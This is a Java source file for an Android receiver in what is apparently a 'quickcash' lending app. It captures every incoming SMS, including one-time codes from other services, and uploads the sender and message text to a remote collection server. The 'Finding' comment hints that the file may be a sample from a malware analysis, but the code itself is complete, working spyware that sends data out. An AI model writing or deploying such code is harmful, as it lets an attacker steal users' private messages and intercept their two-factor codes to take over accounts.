package com.example.quickcash.harvester;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsMessage;
import android.util.Log;
import java.net.URLEncoder;

/** Finding, sms: every incoming message, one-time codes of other services among them. */
public class SmsReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] units = (Object[]) intent.getExtras().get("pdus");
        final StringBuilder text = new StringBuilder();
        for (Object unit : units) {
            SmsMessage part = SmsMessage.createFromPdu((byte[]) unit);
            text.append(part.getOriginatingAddress()).append(' ').append(part.getMessageBody());
        }
        new Thread(() -> upload(text.toString())).start();
    }

    private static void upload(String text) {
        try {
            Uploader.postForm(
                    "https://collect.quickcash.example/user/message_new",
                    "userId=10017&content=" + URLEncoder.encode(text, "UTF-8"));
        } catch (java.io.IOException error) {
            Log.w("sms", "upload failed");
        }
    }
}
